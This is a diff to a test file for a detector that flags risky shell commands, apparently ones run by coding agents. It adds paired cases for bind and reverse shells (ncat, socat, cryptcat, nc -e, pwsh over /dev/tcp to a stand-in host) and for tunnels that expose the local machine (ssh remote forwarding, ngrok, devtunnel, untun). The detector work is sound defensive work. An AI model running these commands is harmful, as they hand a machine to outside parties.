@@ -43,6 +43,28 @@ const objects: readonly Pair[] = [
   ],
 ]
 
+/** A shell at the other end of a connection, by whatever connects it; the neighbour connects something else. */
+const shellsOut: readonly Pair[] = [
+  ['tcpserver 0 9000 /bin/bash', 'tcpserver 0 9000 /bin/date'],
+  ['ncat -lk 9000 -e "env bash -i"', 'ncat -lk 9000 -e /bin/date'],
+  ['socat1 TCP:a.example:9 \'EXEC:"/bin/zsh -i"\'', 'socat1 TCP:a.example:9 EXEC:/bin/date'],
+  ['cryptcat -l -p 9000 -e /bin/ksh', 'cryptcat -l -p 9000'],
+  ['nc -lU /tmp/s -e /bin/sh', 'nc -U /tmp/s'],
+  ['ncat a.example 9 --sh-exec "python3 -i"', 'ncat a.example 9 --sh-exec "python3 answer.py"'],
+  ['pwsh > /dev/tcp/a.example/9 < /dev/tcp/a.example/9', 'pwsh -c "Get-Date" > /dev/tcp/a.example/9'],
+]
+
+/** This machine, opened to others; the neighbour only looks, or opens it to a network around it. */
+const openings: readonly Pair[] = [
+  ['autossh -M 0 -N -R 80:localhost:3000 a.example', 'autossh -M 0 -N -R 80:localhost:3000 10.0.0.5'],
+  ['ssh -oRemoteForward=80:localhost:80 a.example', 'ssh -oLocalForward=80:localhost:80 a.example'],
+  ['podman run --rm docker.io/ngrok/ngrok http host:80', 'podman run --rm docker.io/library/nginx'],
+  ['bunx foo-open expose 8080', 'bunx foo-open expose --help'],
+  ['devtunnel host -p 3000', 'devtunnel list'],
+  ['inlets http --port 80', 'inlets version'],
+  ['npx untun@latest tunnel localhost:3000', 'npx untun@latest help'],
+]
+
 /** What a project checks itself by, taken away; the neighbour sets it up, runs it, or changes something else. */
 const checks: readonly Pair[] = [
   ['rm -f .husky/pre-push .husky/commit-msg', 'rm -f .husky.log'],
@@ -269,6 +291,8 @@ describe.each([
   { kind: 'a message', pairs: messages, rule: 'secret-messages' },
   { kind: "a project's own check", pairs: checks, rule: 'removed-checks' },
   { kind: 'a file of data', pairs: data, rule: 'emptied-data' },
+  { kind: 'a shell here', pairs: shellsOut, rule: 'network-shells' },
+  { kind: 'access to this machine', pairs: openings, rule: 'remote-access' },
   { kind: 'the guard of an agent', pairs: agents, rule: 'unguarded-agents' },
 ])('$kind', ({ pairs, rule }) => {
   it.each(pairs)('is at risk by %s, and not by %s', async (dangerous, harmless) => {
